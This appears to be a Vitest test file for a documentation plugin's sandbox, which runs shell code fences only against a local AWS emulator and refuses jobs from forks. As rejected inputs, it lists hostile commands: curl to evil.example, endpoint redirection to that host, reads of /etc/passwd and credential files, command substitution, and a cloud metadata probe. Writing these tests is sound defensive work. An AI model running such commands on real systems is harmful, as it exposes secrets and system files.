import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { getProgram, guardCall } from '../../plugins/docusaurus-plugin-gait/src/automation/exercise/programs/index.ts';
import { readScript } from '../../plugins/docusaurus-plugin-gait/src/automation/exercise/script.ts';
import { toWords } from '../../plugins/docusaurus-plugin-gait/src/automation/exercise/words.ts';
import { openNetwork } from '../../plugins/docusaurus-plugin-gait/src/automation/exercise/namespace.ts';
import { runProcess } from '../../plugins/docusaurus-plugin-gait/src/automation/exercise/process.ts';
import { gait } from '../cli/support.ts';
import { createExerciseSite, createFakePrograms, NOWHERE } from './exercise-site.ts';

const folder = mkdtempSync(join(tmpdir(), 'gait-escapes-'));
const started = join(folder, 'started');
/** Programs that leave a trace when they are started. */
const traces = createFakePrograms(
  `require('node:fs').appendFileSync(${JSON.stringify(started)}, process.argv[1] + '\\n');`,
);
const prints = createFakePrograms();
afterAll(() => {
  for (const programs of [traces, prints]) programs.remove();
  rmSync(folder, { recursive: true, force: true });
});

const env = (programs = traces): Record<string, string> => ({ PATH: programs.path, AWS_ENDPOINT_URL: NOWHERE });
const exercise = (site: string, settings = env()) => gait(site, ['exercise', 'rotate-key'], { env: settings });

/** Holds a fence against the rules, line by line, as an exercise does before it starts the programs of a line. */
function check(fence: string): void {
  const values = new Map([['TOKEN', 'very-secret-value']]);
  for (const statement of readScript(fence)) {
    if (statement.kind === 'assign') values.set(statement.name, toWords(statement.word, values)[0] ?? '');
    else {
      for (const [index, command] of statement.commands.entries()) {
        const [name = '', ...args] = toWords(command, values);
        guardCall(getProgram(name, ['aws', 'jq']), { args, folder, endpoint: NOWHERE, isPiped: index > 0 });
      }
    }
  }
}

describe('what a fence cannot do', () => {
  it.each<[string, RegExp]>([
    ['curl http://evil.example', /Unexpected program `curl`/u],
    ['bash -c id', /Unexpected program `bash`/u],
    ['/usr/bin/aws sts get-caller-identity', /Unexpected program `\/usr\/bin\/aws`/u],
    ['"$TOKEN" a b', /Unexpected program/u],
    ['eval aws a b', /Unexpected program `eval`/u],
    ['export AWS_PROFILE=admin', /Unexpected program `export`/u],
    ['aws a b > /etc/passwd', /redirection/u],
    ['aws a "$(cat /etc/passwd)"', /`\$\(`/u],
    ['aws s3api list-buckets --endpoint-url http://evil.example', /no --endpoint-url/u],
    ['aws s3api list-buckets --endpoint-url=http://evil.example', /no --endpoint-url/u],
    ['aws s3api list-buckets --endpoint http://evil.example', /no --endpoint-url/u],
    ['aws s3api list-buckets --end http://evil.example', /no --endpoint-url/u],
    ['aws s3api list-buckets --profile admin', /no --profile/u],
    ['aws s3api list-buckets --prof=admin', /no --profile/u],
    ['aws s3api list-buckets --no-verify-ssl', /no --no-verify-ssl/u],
    ['aws s3api list-buckets --no-ver', /no --no-verify-ssl/u],
    ['aws s3api list-buckets --ca-bundle x', /no --ca-bundle/u],
    ['OPTION="--profile"\naws s3api list-buckets "$OPTION" admin', /no --profile/u],
    ['aws --profile admin s3api list-buckets', /expected a service and an operation first/u],
    ['aws', /expected a service and an operation first/u],
    ['aws configure set region x', /Unexpected `aws configure`/u],
    ['aws configure', /expected a service and an operation/u],
    ['aws s3 cp x y', /Unexpected `aws s3`/u],
    ['aws codeartifact login', /Unexpected `aws codeartifact login`/u],
    ['aws ssm start-session --target x', /Unexpected `aws ssm start-session`/u],
    ['aws eks update-kubeconfig --name x', /Unexpected `aws eks update-kubeconfig`/u],
    ['aws cloudformation deploy --template-file x', /Unexpected `aws cloudformation deploy`/u],
    ['aws iam create-policy --policy-document file:///etc/passwd', /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document=file:///etc/passwd', /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document file://../../x', /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document file://a/../../x', /expected a file of the set-up/u],
    ["aws iam create-policy --policy-document 'file://~root/.aws/credentials'", /expected a file of the set-up/u],
    ["aws iam create-policy --policy-document 'file://$HOME/x'", /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document fileb:///etc/passwd', /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document FILE:///etc/passwd', /expected a file of the set-up/u],
    ["aws iam tag-user --tags 'Key=a,Value@=file:///etc/passwd'", /expected a file of the set-up/u],
    ['aws iam create-policy --policy-document file:///dev/stdin', /expected a file of the set-up/u],
    ['aws s3api put-object --body /etc/passwd', /place on this machine/u],
    ['aws s3api put-object --body=/etc/passwd', /place on this machine/u],
    ['aws s3api put-object --body ../../../../../../../etc/passwd', /place on this machine/u],
    ['aws s3api get-object --bucket a --key b /tmp/written', /place on this machine/u],
    ['aws lambda invoke --function-name a ../written', /place on this machine/u],
    ['jq -n -f /etc/passwd', /option that reads no file/u],
    ['jq --from-file /etc/passwd', /option that reads no file/u],
    ['jq -nf x', /option that reads no file/u],
    ['jq -n --rawfile a /etc/passwd .', /option that reads no file/u],
    ['jq -n --slurpfile a /etc/passwd .', /option that reads no file/u],
    ['jq -L /etc .', /option that reads no file/u],
    ['jq -R . /etc/passwd', /Unexpected file `\/etc\/passwd` for jq/u],
    ['jq -R . ../../etc/passwd', /Unexpected file/u],
    ['jq -n \'import "../../x" as $x; $x\'', /loads nothing/u],
    ['jq -n \'include "x"; .\'', /loads nothing/u],
  ])('refuses `%s`', (fence, message) => {
    expect(() => check(fence)).toThrow(message);
  });

  it.each<[string, RegExp]>([
    ['curl http://evil.example', /Unexpected program `curl`/u],
    ['aws a b > /etc/passwd', /redirection/u],
    ['aws s3api list-buckets --endpoint-url http://evil.example', /no --endpoint-url/u],
    ['aws iam create-policy --policy-document file:///etc/passwd', /expected a file of the set-up/u],
    ['jq -R . /etc/passwd', /Unexpected file/u],
  ])('starts nothing of `%s`', async (fence, message) => {
    const { code, stderr } = await exercise(createExerciseSite(fence));
    expect(stderr).toMatch(message);
    expect(code).toBe(4);
    expect(existsSync(started)).toBe(false);
  });

  it('holds every fence against the rules before the first one is started', async () => {
    const { code } = await exercise(createExerciseSite(['aws a b', 'curl http://evil.example']));
    expect(code).toBe(4);
    expect(existsSync(started)).toBe(false);
  });

  it('holds the set-up against the same rules', async () => {
    const site = createExerciseSite('aws a b', {
      'test/sops/rotate-key/exercise.yaml': 'schema: 1\nsetup: curl http://evil.example\n',
    });
    const { code, stderr } = await exercise(site);
    expect(stderr).toContain('test/sops/rotate-key/exercise.yaml: ');
    expect([code, existsSync(started)]).toEqual([4, false]);
  });

  it('refuses a set-up that links to something else', async () => {
    const site = createExerciseSite('aws a b');
    symlinkSync('/etc/passwd', join(site, 'test/sops/rotate-key/policy.json'));
    const { code, stderr } = await exercise(site);
    expect(stderr).toMatch(/Unexpected link or device `policy\.json`/u);
    expect([code, existsSync(started)]).toEqual([4, false]);
  });

  it('starts only what the configuration allows', async () => {
    const config =
      (await import('../../plugins/docusaurus-plugin-gait/src/rules/example.ts')).EXAMPLE_SITE['gait.config.yaml'] ??
      '';
    const site = createExerciseSite('jq -n .', { 'gait.config.yaml': `${config}exercise: {allow: [aws]}\n` });
    const { code, stderr } = await exercise(site);
    expect(stderr).toMatch(/Unexpected program `jq`, expected `aws`/u);
    expect(code).toBe(4);
  });

  it.each([
    'https://sts.amazonaws.com',
    'http://10.0.0.1:80',
    'http://localhost.evil.example:80',
    'http://127.0.0.1',
    'ftp://127.0.0.1:1',
  ])('takes %s for no emulator', async (AWS_ENDPOINT_URL) => {
    const { code, stderr } = await exercise(createExerciseSite('aws a b'), { ...env(), AWS_ENDPOINT_URL });
    expect(stderr).toMatch(/expected an emulator on this machine/u);
    expect([code, existsSync(started)]).toEqual([2, false]);
  });
});

describe('what a program gets', () => {
  const call = { folder, endpoint: NOWHERE, isPiped: false };

  it('has the emulator as the last word on where to go', () => {
    expect(guardCall('aws', { ...call, args: ['iam', 'list-users'] })).toEqual([
      'iam',
      'list-users',
      '--endpoint-url',
      NOWHERE,
    ]);
  });

  it.each(['/', '/teams/', '/orders/production/token', 'arn:aws:iam::1:user/x', 'policy.json', 'file://policy.json'])(
    'may be told %s',
    (value) => {
      expect(guardCall('aws', { ...call, args: ['iam', 'x', '--y', value] })).toContain(value);
    },
  );

  it('has an empty environment, a home of its own, dummy keys and the files of the set-up', async () => {
    const site = createExerciseSite(`\`\`\`bash {exercise="fails: never"}\naws a b --value=d\n\`\`\``, {
      'test/sops/rotate-key/policy.json': '{}',
      'test/sops/rotate-key/.aws/cli/alias': '[toplevel]\nx = !id\n',
    });
    const { stdout } = await exercise(site, {
      ...env(prints),
      AWS_PROFILE: 'admin',
      GITHUB_TOKEN: 'secret',
      NODE_OPTIONS: '--inspect',
    });
    const shown = JSON.parse(/\| (\{.*\})/u.exec(stdout)?.[1] ?? '') as Record<'env', Record<string, string>> &
      Record<'args' | 'files', string[]> &
      Record<'cwd' | 'input', string>;
    expect(Object.keys(shown.env).sort()).toEqual([
      ...[
        'AWS_ACCESS_KEY_ID',
        'AWS_CLI_AUTO_PROMPT',
        'AWS_CONFIG_FILE',
        'AWS_DEFAULT_REGION',
        'AWS_EC2_METADATA_DISABLED',
        'AWS_MAX_ATTEMPTS',
      ],
      ...['AWS_PAGER', 'AWS_REGION', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'AWS_SHARED_CREDENTIALS_FILE'],
      ...['HOME', 'LANG', 'PATH', 'TMPDIR', 'TZ'],
    ]);
    expect(shown.env).toMatchObject({
      AWS_ACCESS_KEY_ID: 'testing',
      AWS_SECRET_ACCESS_KEY: 'testing',
      AWS_EC2_METADATA_DISABLED: 'true',
    });
    expect(shown.env.HOME).toMatch(/\/gait-exercise-[^/]+\/home$/u);
    expect(shown.cwd).toMatch(/\/gait-exercise-[^/]+\/work$/u);
    expect(shown.files).toEqual(['policy.json']);
    expect(shown.input).toBe('');
    expect(shown.args.slice(0, 4)).toEqual(['a', 'b', '--value=d', '--endpoint-url']);
    expect(existsSync(shown.cwd)).toBe(false);
  });

  it('reads what the program before it printed, also by name', async () => {
    const fence = '```bash {exercise="fails: never"}\naws a b | aws c d --value file:///dev/stdin\n```';
    const { stdout } = await exercise(createExerciseSite(fence), env(prints));
    const shown = JSON.parse(/\| (\{.*\})/u.exec(stdout)?.[1] ?? '') as { args: string[]; input: string };
    expect(shown.args).toContain('file:///dev/stdin');
    expect((JSON.parse(shown.input) as { args: string[] }).args.slice(0, 2)).toEqual(['a', 'b']);
  });

  it('shows no secret value when it fails', async () => {
    const fails = createFakePrograms('console.error(process.argv.join(" ")); process.exit(3);');
    const { code, stdout } = await exercise(
      createExerciseSite('```bash {exercise="no: first"}\naws a b\n```'),
      env(fails),
    );
    fails.remove();
    expect(stdout).toContain('--value [secret]');
    expect(stdout).not.toContain('very-secret-value');
    expect(code).toBe(1);
  });

  it('is ended when it takes too long, with everything that it started', async () => {
    const trace = join(folder, 'late');
    const code = `require('node:child_process').spawn(process.execPath, ['-e', 'setTimeout(() => require("node:fs").writeFileSync(${JSON.stringify(trace)}, ""), 1500)'], { stdio: 'ignore' }); setInterval(() => {}, 1000);`;
    const argv = [process.execPath, '-e', code];
    const ended = await runProcess({ argv, cwd: folder, env: {}, milliseconds: 700 });
    expect(ended).toMatchObject({ code: undefined, limit: 'time' });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(existsSync(trace)).toBe(false);
  });

  it('is ended when it prints too much', async () => {
    const argv = [process.execPath, '-e', 'setInterval(() => process.stdout.write("x".repeat(65536)), 1)'];
    expect(await runProcess({ argv, cwd: folder, env: {}, milliseconds: 30_000 })).toMatchObject({
      code: undefined,
      limit: 'output',
    });
  });
});

describe('the network of an exercise', () => {
  it('holds the emulator and nothing else, or says why it cannot', async () => {
    const listen = async (answer: string) => {
      const server = createServer((_, response) => response.end(answer));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
    };
    const [emulator, other] = [await listen('emulator'), await listen('other')];
    const network = await openNetwork({ endpoint: emulator.url, folder, env: process.env });
    try {
      const ask = async (url: string): Promise<string> => {
        const code = `fetch(${JSON.stringify(url)}).then((r) => r.text()).then(console.log, () => console.log('nothing'))`;
        const argv = [...network.prefix, process.execPath, '-e', code];
        const { stdout } = await runProcess({
          argv,
          cwd: folder,
          env: { PATH: process.env.PATH ?? '' },
          milliseconds: 30_000,
        });
        return stdout.trim();
      };
      expect(await ask(network.endpoint)).toBe('emulator');
      if (network.reason === undefined) {
        expect(await ask(other.url)).toBe('nothing');
        expect(await ask('http://169.254.169.254/latest/meta-data/')).toBe('nothing');
      } else expect(network.reason).toMatch(/this machine does not let it|neither/u);
    } finally {
      await network.close();
      for (const { server } of [emulator, other]) {
        server.closeAllConnections();
        await new Promise((resolve) => server.close(resolve));
      }
    }
  });
});

describe('jobs of forks', () => {
  const event = join(folder, 'event.json');
  const github = (name: string, payload: unknown) => {
    writeFileSync(event, JSON.stringify(payload));
    return { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: name, GITHUB_EVENT_PATH: event };
  };
  const repos = (head: string | null, base: string) => ({
    pull_request: { head: { repo: head === null ? null : { full_name: head } }, base: { repo: { full_name: base } } },
  });

  it.each<[string, () => Record<string, string>]>([
    ['a pull request of a fork', () => github('pull_request', repos('mallory/gait', 'example/gait'))],
    [
      'the same with the rights of the base',
      () => github('pull_request_target', repos('mallory/gait', 'example/gait')),
    ],
    ['a fork that is gone', () => github('pull_request', repos(null, 'example/gait'))],
    [
      'an event that cannot be read',
      () => ({ GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: '/nowhere' }),
    ],
    [
      'what follows the workflow of a fork',
      () =>
        github('workflow_run', {
          workflow_run: { head_repository: { full_name: 'mallory/gait' } },
          repository: { full_name: 'example/gait' },
        }),
    ],
    ['a comment', () => github('issue_comment', {})],
    [
      'a merge request of another project',
      () => ({ CI_MERGE_REQUEST_ID: '1', CI_MERGE_REQUEST_SOURCE_PROJECT_ID: '2', CI_MERGE_REQUEST_PROJECT_ID: '3' }),
    ],
    ['Azure', () => ({ SYSTEM_PULLREQUEST_ISFORK: 'True' })],
    ['CircleCI', () => ({ CIRCLE_PR_REPONAME: 'gait' })],
    ['Buildkite', () => ({ BUILDKITE_PULL_REQUEST_REPO: 'git://mallory', BUILDKITE_REPO: 'git://example' })],
  ])('are refused: %s', async (_, getFacts) => {
    const { code, stderr } = await exercise(createExerciseSite('aws a b'), { ...env(), ...getFacts() });
    expect(stderr).toMatch(/^Nothing was exercised: /u);
    expect([code, existsSync(started)]).toEqual([4, false]);
  });

  it.each<[string, () => Record<string, string>]>([
    ['a branch of the repository', () => github('pull_request', repos('example/gait', 'example/gait'))],
    ['a push', () => github('push', {})],
    [
      'a merge request of the project',
      () => ({ CI_MERGE_REQUEST_ID: '1', CI_MERGE_REQUEST_SOURCE_PROJECT_ID: '2', CI_MERGE_REQUEST_PROJECT_ID: '2' }),
    ],
  ])('are told from %s', async (_, getFacts) => {
    const { code, stdout, stderr } = await exercise(createExerciseSite('aws a b'), { ...env(prints), ...getFacts() });
    expect(stdout + stderr).toContain('Passed.');
    expect(code).toBe(0);
  });
});
